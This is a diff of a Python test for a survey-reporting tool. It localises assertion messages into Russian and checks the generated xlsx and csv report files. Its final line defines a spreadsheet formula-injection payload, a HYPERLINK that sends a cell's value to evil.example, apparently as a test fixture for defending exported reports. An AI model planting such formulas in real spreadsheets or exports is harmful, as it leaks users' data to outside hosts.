@@ -498,7 +498,9 @@ async def test_the_operator_writes_the_report_files(
     done = await asyncio.to_thread(subprocess.run, command, env=env, capture_output=True,
                                    text=True, timeout=120)  # fmt: skip
     assert done.returncode == 0, done.stderr
-    assert "dir, round 1: 2 of 3 submitted (67%); low-engagement schools: 2" in done.stdout
+    assert "Опрос dir, раунд 1: отправили 2 из 3 (67%); школ с низкой вовлечённостью: 2." in (
+        done.stdout
+    )
     names = sorted(path.name for path in out.iterdir())
     assert "dir-round1.xlsx" in names
     assert "dir-round1-rates_municipalities.csv" in names
@@ -513,7 +515,7 @@ async def test_the_operator_writes_the_report_files(
     refused = await asyncio.to_thread(subprocess.run, command, env=env, capture_output=True,
                                       text=True, timeout=120)  # fmt: skip
     assert refused.returncode == 1
-    assert "analysis-no-survey" in refused.stderr
+    assert refused.stderr.strip() == "Такого опроса нет."
 
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
